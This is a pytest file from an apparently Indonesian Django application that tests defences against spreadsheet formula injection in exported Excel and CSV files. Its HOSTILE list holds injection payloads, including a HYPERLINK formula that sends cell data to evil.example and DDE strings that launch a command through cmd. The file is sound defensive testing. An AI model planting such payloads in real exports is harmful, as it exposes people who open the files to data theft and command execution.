"""Formula injection: no exported cell that came from a user runs as a formula in Excel or LibreOffice.

sipd.excel.tulis_lembar / sel_aman neutralize text; every module that writes a workbook or a CSV must go
through them (the source scan below fails for a new export that does not), and the existing export paths
are read back cell by cell.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import Workbook, load_workbook

from sipd.excel import FORMULA_PREFIXES, sel_aman, tulis_lembar, workbook_bytes

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
]  # fmt: skip
# Writers whose content is fixed text of the code, never user data (import templates).
FIXED_CONTENT = {"opd/imports.py"}


@pytest.mark.parametrize("value", HOSTILE)
def test_sel_aman_neutralizes_every_formula_prefix(value):
    assert sel_aman(value) == "'" + value
    assert sel_aman(12.5) == 12.5 and sel_aman("Dinas Kesehatan") == "Dinas Kesehatan"


def test_tulis_lembar_never_writes_a_formula_cell():
    wb = Workbook()
    tulis_lembar(wb.active, ["=judul", "nilai"], [[v, 1] for v in HOSTILE])
    sheet = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(not str(c.value).startswith(FORMULA_PREFIXES) for c in cells if isinstance(c.value, str))


def test_every_workbook_or_csv_writer_goes_through_sel_aman():
    base = Path(settings.BASE_DIR)
    offenders = []
    for path in sorted(base.glob("*/**/*.py")):
        rel = path.relative_to(base).as_posix()
        if rel.startswith((".venv", "tests/", ".data")) or "/migrations/" in rel or rel == "sipd/excel.py":
            continue
        source = path.read_text(encoding="utf-8")
        imports = re.search(r"^\s*(import csv|from openpyxl|import openpyxl)", source, re.M)
        writes = re.search(r"csv\.(writer|DictWriter)|\bWorkbook\(", source)
        safe = re.search(r"\b(sel_aman|tulis_lembar)\b", source)
        if imports and writes and not safe and rel not in FIXED_CONTENT:
            offenders.append(rel)
    assert not offenders, f"ekspor tanpa sel_aman/tulis_lembar: {offenders}"


@pytest.mark.django_db
@pytest.mark.parametrize("jenis", ["opd", "pegawai"])
def test_import_templates_contain_no_formula(jenis, two_opds, login):
    client = login(two_opds.users.admin)
    xlsx = client.get(f"/opd/impor/templat/{jenis}.xlsx")
    assert xlsx.status_code == 200
    workbook = load_workbook(io.BytesIO(xlsx.content))
    for sheet in workbook.worksheets:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    text = client.get(f"/opd/impor/templat/{jenis}.csv").content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        assert not [v for v in row if v.startswith(FORMULA_PREFIXES)], row
